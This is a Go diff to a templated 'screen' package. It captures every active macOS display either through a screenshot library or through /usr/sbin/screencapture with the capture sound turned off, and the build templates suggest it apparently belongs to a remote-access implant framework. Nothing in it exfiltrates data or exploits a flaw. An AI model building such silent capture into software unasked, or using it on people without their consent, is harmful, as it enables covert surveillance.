@@ -19,61 +19,120 @@ package screen
 */
 
 import (
-	// {{if .Config.IsSharedLib}}
-	"bytes"
-	"image/png"
-
 	// {{if .Config.Debug}}
 	"log"
 	// {{end}}
 
-	//{{end}} - End Shared Lib
-
 	// {{if .Config.IsSharedLib}}
 	screen "github.com/kbinani/screenshot"
+	// {{else}}
+	"fmt"
+	"image"
+	"image/png"
+	"os"
+	"os/exec"
+	"path/filepath"
 	// {{end}}
 )
 
-//Screenshot - Not Implemented
-func Screenshot() []byte {
-	buf := []byte{}
+// {{if not .Config.IsSharedLib}}
+
+// maxDisplays - screencapture(1) writes one file per display, up to as many files
+// as it's given
+const maxDisplays = 16
+
+// {{end}}
+
+// capture - The active displays, and their screenshots if images is set. Only
+// shared libraries use cgo so executables fall back to screencapture(1)
+func capture(images bool) ([]display, error) {
+	var displays []display
+	var err error
 	// {{if .Config.IsSharedLib}}
-	buf = DarwinCapture()
+	displays, err = captureDisplays(images)
+	// {{else}}
+	displays, err = screencapture(images)
 	// {{end}}
-	return buf
+	return displays, err
 }
 
-// DarwinCapture - Retrieve the screenshot of the active displays
 // {{if .Config.IsSharedLib}}
-func DarwinCapture() []byte {
-	nDisplays := screen.NumActiveDisplays()
-
-	var height, width int = 0, 0
-	for i := 0; i < nDisplays; i++ {
-		rect := screen.GetDisplayBounds(i)
-		if rect.Dy() > height {
-			height = rect.Dy()
+func captureDisplays(images bool) ([]display, error) {
+	displays := []display{}
+	for index := 0; index < screen.NumActiveDisplays(); index++ {
+		active := display{bounds: screen.GetDisplayBounds(index)}
+		if images {
+			img, err := screen.CaptureRect(active.bounds)
+			if err != nil {
+				//{{if .Config.Debug}}
+				log.Printf("Error capturing display %d: %s", index, err)
+				//{{end}}
+				return nil, err
+			}
+			active.img = img
 		}
-		width += rect.Dx()
+		displays = append(displays, active)
 	}
-	img, err := screen.Capture(0, 0, width, height)
+	return displays, nil
+}
 
+// {{else}}
+
+// screencapture - Without cgo we can't ask where the displays are, so displays are
+// captured even when only their bounds are needed and are laid out left to right
+func screencapture(images bool) ([]display, error) {
+	captureDir, err := os.MkdirTemp("", "")
 	if err != nil {
-		//{{if .Config.Debug}}
-		log.Printf("Error Capture: %s", err)
-		//{{end}}
+		// {{if .Config.Debug}}
+		log.Printf("Error creating capture directory: %s", err)
+		// {{end}}
+		return nil, err
 	}
+	defer os.RemoveAll(captureDir)
 
-	var buf bytes.Buffer
+	// -x disables the capture sound, without the screen recording permission
+	// only the desktop background is captured
+	args := []string{"-x", "-t", "png"}
+	for index := 1; index <= maxDisplays; index++ {
+		args = append(args, filepath.Join(captureDir, fmt.Sprintf("%d.png", index)))
+	}
+	err = exec.Command("/usr/sbin/screencapture", args...).Run()
 	if err != nil {
-		//{{if .Config.Debug}}
-		log.Println("Capture Error")
-		//{{end}}
-		return buf.Bytes()
+		// {{if .Config.Debug}}
+		log.Printf("Error running screencapture: %s", err)
+		// {{end}}
+		return nil, err
 	}
 
-	png.Encode(&buf, img)
-	return buf.Bytes()
+	displays := []display{}
+	x := 0
+	for index := 1; index <= maxDisplays; index++ {
+		file, err := os.Open(filepath.Join(captureDir, fmt.Sprintf("%d.png", index)))
+		if err != nil {
+			break // No more displays
+		}
+		active := display{}
+		if images {
+			active.img, err = png.Decode(file)
+			if err == nil {
+				active.bounds = active.img.Bounds().Sub(active.img.Bounds().Min).Add(image.Pt(x, 0))
+			}
+		} else {
+			var config image.Config
+			config, err = png.DecodeConfig(file)
+			active.bounds = image.Rect(x, 0, x+config.Width, config.Height)
+		}
+		file.Close()
+		if err != nil {
+			// {{if .Config.Debug}}
+			log.Printf("Error reading capture: %s", err)
+			// {{end}}
+			return nil, err
+		}
+		x = active.bounds.Max.X
+		displays = append(displays, active)
+	}
+	return displays, nil
 }
 
 // {{end}}